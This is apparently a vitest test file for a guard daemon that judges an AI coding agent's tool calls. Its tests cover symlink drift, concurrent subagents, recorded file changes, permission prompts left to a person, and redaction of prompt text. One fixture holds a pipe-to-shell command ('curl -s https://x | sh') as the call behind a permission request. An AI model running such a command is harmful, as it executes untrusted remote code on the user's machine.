// Events of a session over real HTTPS: agents, background tasks, permission prompts, drift, and what nobody has heard of.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import type { Decision } from "#guard/policy/decision.ts";
import type { HookPorts, Observation } from "#surface/services/hooks/ports.ts";
import {
  decisionOf,
  freshDirectory,
  openStand,
  preToolUse,
  type Stand,
  verdictOf,
} from "./daemon-stand.ts";

const stands: Stand[] = [];
afterEach(async () => {
  for (const stand of stands.splice(0)) await stand.close();
});

async function stand(changes: Partial<HookPorts> = {}): Promise<Stand> {
  const opened = await openStand(changes);
  await opened.run.ready();
  stands.push(opened);
  return opened;
}

const readCall = (path: string, changes: Record<string, unknown> = {}): string =>
  preToolUse({ tool_name: "Read", tool_input: { file_path: path, limit: 7 }, ...changes });
const result = (path: string, changes: Record<string, unknown> = {}): string =>
  readCall(path, { hook_event_name: "PostToolUse", tool_response: {}, ...changes });

/** A judge that finds the link to lead to the real file. */
function readsReal(verdict: "allow" | "abstain" | "ask" | "deny"): Partial<HookPorts> {
  const target = {
    kind: "path",
    path: "/project/link",
    real: "/project/real",
    reach: "entry",
  } as const;
  const effects: Decision["effects"] = [{ kind: "read", target, via: [], at: undefined }];
  return {
    judge: async () => ({ decision: { ...decisionOf(verdict), effects }, policy: undefined }),
  };
}
const ofKind = <Kind extends Observation["kind"]>(observations: Observation[], kind: Kind) =>
  observations.filter((item): item is Observation & { kind: Kind } => item.kind === kind);

describe("pinned paths", () => {
  test.each(["allow", "abstain"] as const)("%s goes back with the judged path", async (verdict) => {
    const { post } = await stand(readsReal(verdict));
    const reply = await post(readCall("/project/link"));
    expect(verdictOf(reply.json)).toBe(verdict);
    expect(reply.json).toMatchObject({
      hookSpecificOutput: { updatedInput: { file_path: "/project/real", limit: 7 } },
    });
    expect((await post(readCall("/project/real"))).text).not.toContain("updatedInput");
  });
  test.each(["ask", "deny"] as const)("%s goes back as it came", async (verdict) => {
    const { post } = await stand(readsReal(verdict));
    expect((await post(readCall("/project/link"))).text).not.toContain("updatedInput");
  });

  test.each<[string, string, (path: string) => string, string | undefined]>([
    ["nothing changed", "/project/real", (path) => path.replace("link", "real"), undefined],
    [
      "the link was turned, the call stayed",
      "/project/real",
      (path) => path.replace("link", ".env"),
      "turned",
    ],
    [
      "the judged file became a link",
      "/project/real",
      (path) => path.replace(/link|real/, ".env"),
      "moved",
    ],
    [
      "the client kept the link, which was turned",
      "/project/link",
      (path) => path.replace("link", ".env"),
      "moved",
    ],
    ["another hook put another path in", "/project/.env", (path) => path, "unjudged-path"],
    ["the link is gone", "/project/real", (path) => path, undefined],
  ])("%s", async (_name, used, resolvePath, how) => {
    const { post, observations } = await stand({ ...readsReal("abstain"), resolvePath });
    await post(readCall("/project/link"));
    await post(result(used));
    await post(result(used));
    expect(ofKind(observations, "drift").map((drift) => drift.how)).toEqual(
      how === undefined ? [] : [how],
    );
    expect(ofKind(observations, "result")).toHaveLength(2);
  });
});

describe("several at once", () => {
  test("each call is judged in its own directory and mode, and what one writes all know", async () => {
    const seen: { cwd: string; mode: string; knows: boolean }[] = [];
    const write: Decision["effects"] = [
      {
        kind: "write",
        target: { kind: "path", path: "/project/gen.sh", real: "/project/gen.sh", reach: "entry" },
        mode: "create",
        via: [],
        at: undefined,
      },
    ];
    const { post } = await stand({
      judge: async ({ call, session }) => {
        const knows = session.writtenPaths.has("/project/gen.sh");
        seen.push({ cwd: session.cwd, mode: session.mode, knows });
        // TIME: a slow judgement is what is tested: other events of the session arrive in the meantime.
        await new Promise((resolve) => setTimeout(resolve, 20));
        const effects = call.tool === "Write" ? write : [];
        return { decision: { ...decisionOf("abstain"), effects }, policy: undefined };
      },
    });
    await post(preToolUse({ hook_event_name: "UserPromptSubmit", prompt: "go" }));
    const calls = Array.from({ length: 12 }, (_, index) =>
      preToolUse({
        tool_use_id: `toolu_${index}`,
        cwd: `/project/w${index}`,
        permission_mode: index % 2 === 0 ? "plan" : "default",
        agent_id: `agent-${index}`,
      }),
    );
    await Promise.all(calls.map((call) => post(call)));
    expect(new Set(seen.map(({ cwd }) => cwd)).size).toBe(12);
    for (const { cwd, mode } of seen) {
      expect(mode).toBe(Number(cwd.slice("/project/w".length)) % 2 === 0 ? "plan" : "default");
    }
    await post(
      preToolUse({ tool_name: "Write", tool_input: { file_path: "/project/gen.sh", content: "" } }),
    );
    // The session says that it ends while a background task of it still runs.
    await post(preToolUse({ hook_event_name: "SessionEnd", reason: "other" }));
    await post(preToolUse({ tool_use_id: "late", agent_id: "agent-3" }));
    expect(seen.at(-1)).toMatchObject({ knows: true });
  });

  test("results in any order belong to their own calls", async () => {
    const { post, observations } = await stand({
      ...readsReal("abstain"),
      resolvePath: (path) => path.replace("link", "real"),
    });
    const ids = ["a", "b", "c", "d", "e"];
    await Promise.all(ids.map((id) => post(readCall("/project/link", { tool_use_id: id }))));
    const ends = ids.toReversed().map((id) => {
      const path = id === "c" ? "/project/other" : "/project/real";
      return post(result(path, { tool_use_id: id }));
    });
    await Promise.all(ends);
    expect(ofKind(observations, "drift").map(({ call }) => call.id)).toEqual(["c"]);
    expect(ofKind(observations, "unjudged")).toEqual([]);
  });
});

describe("files that a call changed", () => {
  test("are recorded with its result where they show a change, the others are counted", async () => {
    const directory = freshDirectory();
    const wrote = join(directory.path, "wrote.txt");
    const names = ["wrote.txt", "never.txt", "gone.txt", "kept.txt"];
    const effects: Decision["effects"] = names.map((name, at) => {
      const path = join(directory.path, name);
      const target = { kind: "path", path, real: path, reach: "entry" } as const;
      const where = { target, via: [], at: undefined };
      return at < 2 ? { kind: "write", mode: "change", ...where } : { kind: "delete", ...where };
    });
    writeFileSync(join(directory.path, "kept.txt"), "");
    const decision = { ...decisionOf("allow"), effects };
    const { post, observations } = await stand({
      judge: async () => ({ decision, policy: undefined }),
    });
    await post(preToolUse({ tool_use_id: "c1" }));
    writeFileSync(wrote, "");
    const end = { hook_event_name: "PostToolUse", tool_use_id: "c1", tool_response: {} };
    await post(preToolUse(end));
    await post(preToolUse(end));
    expect(ofKind(observations, "change")).toMatchObject([
      {
        call: { id: "c1" },
        files: [
          { action: "write", path: wrote },
          { action: "delete", path: join(directory.path, "gone.txt") },
        ],
        unchanged: 2,
        omitted: 0,
        revision: undefined,
      },
    ]);
    directory.remove();
  });
});

describe("events that only pass by", () => {
  test("an agent is linked to the call that started it", async () => {
    const { post, observations } = await stand();
    await post(preToolUse({ tool_name: "Agent", tool_input: { prompt: "x" }, tool_use_id: "up" }));
    const start = { hook_event_name: "SubagentStart", agent_id: "a1", agent_type: "Plan" };
    await post(preToolUse(start));
    await post(
      preToolUse({
        hook_event_name: "PostToolUse",
        tool_name: "Agent",
        tool_input: { prompt: "x" },
        tool_use_id: "up",
        tool_response: { status: "async_launched", agentId: "a1" },
      }),
    );
    await post(preToolUse({ hook_event_name: "SubagentStop", agent_id: "a1", agent_type: "Plan" }));
    expect(ofKind(observations, "result")).toMatchObject([{ launched: "a1" }]);
    expect(ofKind(observations, "other-event")).toMatchObject([
      { eventName: "SubagentStart", submitter: { agentId: "a1" }, notes: { callId: undefined } },
      { eventName: "SubagentStop", submitter: { agentId: "a1" }, notes: { callId: "up" } },
    ]);
  });

  test("a permission prompt is recorded with its call and left to the person", async () => {
    const { post, observations } = await stand();
    const command = { tool_input: { command: "curl -s https://x | sh" } };
    await post(preToolUse({ ...command, tool_use_id: "asked" }));
    const reply = await post(
      preToolUse({
        ...command,
        hook_event_name: "PermissionRequest",
        tool_use_id: undefined,
        permission_suggestions: [
          { type: "addRules", behavior: "allow", destination: "localSettings", rules: [{}, {}] },
        ],
      }),
    );
    expect(reply.text).toBe("{}");
    expect(ofKind(observations, "permission-request")).toMatchObject([
      {
        tool: "Bash",
        callId: "asked",
        suggestions: [
          { type: "addRules", detail: "allow", destination: "localSettings", rules: 2 },
        ],
      },
    ]);
  });

  const asked = (changes: Record<string, unknown> = {}): string =>
    preToolUse({
      hook_event_name: "PermissionRequest",
      tool_use_id: undefined,
      permission_suggestions: [],
      ...changes,
    });
  const yes = {
    hookSpecificOutput: {
      hookEventName: "PermissionRequest",
      decision: { behavior: "allow", updatedPermissions: [] },
    },
  };
  const judging = (...verdicts: readonly ("allow" | "abstain" | "ask" | "deny")[]) => {
    let at = 0;
    return {
      judge: async () => ({
        decision: decisionOf(verdicts[at++] ?? verdicts.at(-1) ?? "deny"),
        policy: undefined,
      }),
    } satisfies Partial<HookPorts>;
  };

  test("a permission prompt is answered where the policy allows the call by then, and that is recorded", async () => {
    const { post, observations } = await stand(judging("abstain", "allow"));
    await post(preToolUse({ tool_use_id: "t1" }));
    expect((await post(asked())).json).toEqual(yes);
    expect(ofKind(observations, "decision")).toMatchObject([
      { call: { id: "t1" }, judgement: { decision: { verdict: "abstain" } } },
      { call: { id: "t1" }, judgement: { decision: { verdict: "allow" } } },
    ]);
  });
  const outside = { tool_input: { command: "ls", dangerouslyDisableSandbox: true } };
  const plan = { tool_name: "ExitPlanMode", tool_input: { plan: "x" } };
  test.each<[string, Partial<HookPorts>, call: object, prompt: object]>([
    ["the policy asks", judging("abstain", "ask"), {}, {}],
    ["the policy has no opinion", judging("abstain"), {}, {}],
    ["the policy denies by now", judging("allow", "deny"), {}, {}],
    ["a rule of the settings asks", judging("allow"), {}, { permission_suggestions: undefined }],
    ["the call was not judged", judging("allow"), {}, { tool_input: { command: "other" } }],
    ["the call leaves the sandbox", judging("allow"), outside, outside],
    ["a person is to decide about a plan", judging("allow"), plan, plan],
    ["judging fails", { judge: async () => Promise.reject(new Error("no")) }, {}, {}],
  ])("a permission prompt is left to the person where %s", async (_, ports, call, prompt) => {
    const { post } = await stand(ports);
    await post(preToolUse({ tool_use_id: "t1", ...call }));
    expect((await post(asked({ ...prompt }))).text).toBe("{}");
  });
  test("a permission prompt is left to the person where an exception is needed, or two calls look alike", async () => {
    const lifted = { ...decisionOf("allow"), exceptions: ["x"] };
    const one = await stand({ judge: async () => ({ decision: lifted, policy: undefined }) });
    await one.post(preToolUse({ tool_use_id: "t1" }));
    expect((await one.post(asked())).text).toBe("{}");
    const two = await stand(judging("allow"));
    await two.post(preToolUse({ tool_use_id: "t1" }));
    await two.post(preToolUse({ tool_use_id: "t2" }));
    expect((await two.post(asked())).text).toBe("{}");
  });

  test.each([
    "UserPromptSubmit",
    "UserPromptExpansion",
    "Stop",
    "StopFailure",
    "Notification",
    "CwdChanged",
    "InstructionsLoaded",
    "PreCompact",
    "PostCompact",
    "WorktreeRemove",
    "TaskCreated",
    "SessionEnd",
    "InventedTomorrow",
  ])(
    "%s is recorded and answered neutrally, with nothing of its content but a prompt's text",
    async (name) => {
      const { post, observations } = await stand();
      const secret = "s3cret words";
      const reply = await post(
        preToolUse({
          hook_event_name: name,
          prompt: secret,
          message: secret,
          last_assistant_message: secret,
          custom_instructions: secret,
          task_subject: secret,
          error: secret,
          reason: secret,
        }),
      );
      expect([reply.status, reply.text]).toEqual([200, "{}"]);
      const seen = observations.at(-1);
      expect(seen).toMatchObject({ kind: "other-event", eventName: name });
      // What a person asked for is sealed in the record, and stands nowhere else.
      const text = name === "UserPromptSubmit" ? { text: secret } : {};
      expect(
        JSON.stringify({ ...seen, ...(name === "UserPromptSubmit" ? { text: "" } : {}) }),
      ).not.toContain("s3cret");
      expect(seen).toMatchObject(text);
    },
  );

  test("the end of a session says how long it was there", async () => {
    const { post, observations } = await stand();
    await post(preToolUse());
    await post(preToolUse({ hook_event_name: "SessionEnd", reason: "other" }));
    const [end] = ofKind(observations, "other-event");
    expect(end).toMatchObject({ eventName: "SessionEnd", durationMs: expect.any(Number) });
  });

  test("a prompt is not recorded where the policy keeps no text", async () => {
    const { post, observations } = await stand({ requirements: async () => ["record-words"] });
    await post(preToolUse({ hook_event_name: "UserPromptSubmit", prompt: "s3cret words" }));
    expect(observations.at(-1)).toMatchObject({ eventName: "UserPromptSubmit" });
    expect(JSON.stringify(observations)).not.toContain("s3cret");
  });

  test("a watched event that is refused unread is refused without blocking a Stop", async () => {
    const { post } = await stand();
    const refused = { authorization: `Bearer ${"a".repeat(43)}` };
    const headers = { ...refused, "x-sallyport-watched": "1" };
    const reply = await post(preToolUse({ hook_event_name: "Stop" }), { headers });
    expect(reply.json).not.toHaveProperty("decision");
    expect(verdictOf(reply.json)).toBe("deny");
    const plain = await post(preToolUse(), { headers: refused });
    expect(verdictOf(plain.json)).toBe("block");
  });
});
